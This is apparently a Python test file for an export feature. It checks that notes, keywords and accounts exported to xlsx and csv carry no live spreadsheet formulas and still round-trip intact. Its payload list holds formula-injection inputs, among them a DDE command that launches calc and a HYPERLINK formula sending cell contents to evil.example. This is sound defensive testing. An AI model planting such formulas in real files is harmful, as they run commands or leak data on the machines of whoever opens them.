"""Texts that a spreadsheet would compute: none lives in what we write, and all come back as they were."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from nlp.note import Note
from planner.accounts import Accounts
from planner.batches import Batches
from planner.exporting import export
from planner.importing.rows import AccountRow, KeywordRow, NoteRow
from planner.paths import Workspace
from planner.storage.store import Store
from tests.planner.importing.making import take

PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
)
LIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store.open(Workspace(tmp_path / "work")) as opened:
        batches = Batches(opened)
        batch = batches.begin("a.csv", "test", "note", "a", {})
        notes = [
            Note(f"{at:024x}", title=text, body=f"{text}\n第二行", topics=("早八",), author=text, query=text, likes=at)
            for at, text in enumerate(PAYLOADS)
        ]
        batches.write_notes(batch, [NoteRow(note, author_name=note.title) for note in notes])
        batches.finish(batch)
        batch = batches.begin("k.csv", "test", "keyword", "k", {})
        batches.write_keywords(batch, [KeywordRow(text=text, reason=text) for text in PAYLOADS])
        batches.finish(batch)
        batch = batches.begin("p.csv", "test", "account", "p", {})
        batches.write_accounts(
            batch, [AccountRow(name=text, id=f"p{at}", place=text) for at, text in enumerate(PAYLOADS)]
        )
        batches.finish(batch)
        Accounts(opened).edit([one.id for one in Accounts(opened).list()], {"remark": PAYLOADS[1]})
        yield opened


@pytest.mark.parametrize("end", [".xlsx", ".csv"])
def test_none_lives_and_all_come_back(store: Store, tmp_path: Path, end: str, figures: Callable[[str], None]) -> None:
    cells = live = 0
    for what in ("notes", "keywords", "accounts"):
        path = tmp_path / f"{what}{end}"
        export(store, what, path)
        for kind, text in _cells(path):
            cells += 1
            # A minus before digits is a number, as a person would have it.
            live += kind == "f" or (end == ".csv" and text.startswith(LIVE))
    figures(f"{len(PAYLOADS)} formulas × {end[1:]}: {live} live in {cells} cells")
    assert live == 0
    back = take(tmp_path / f"notes{end}").notes
    # Blanks around a title are nobody's words; line ends become ours.
    assert sorted(note.title for note in back) == sorted(text.strip() for text in PAYLOADS)
    assert all(note.body.endswith("第二行") for note in back)


def test_a_careless_workbook_is_found_out(tmp_path: Path) -> None:
    """The negative control: what openpyxl does by itself."""
    book = Workbook()
    for text in PAYLOADS:
        book.active.append([text.strip()])
    book.save(tmp_path / "a.xlsx")
    assert sum(kind == "f" for kind, _ in _cells(tmp_path / "a.xlsx")) >= 3


def _cells(path: Path) -> Iterator[tuple[str, str]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            yield from (("s", cell) for row in csv.reader(file) for cell in row)
        return
    book = load_workbook(path)
    yield from ((cell.data_type, str(cell.value)) for row in book.worksheets[0].iter_rows() for cell in row)
    book.close()
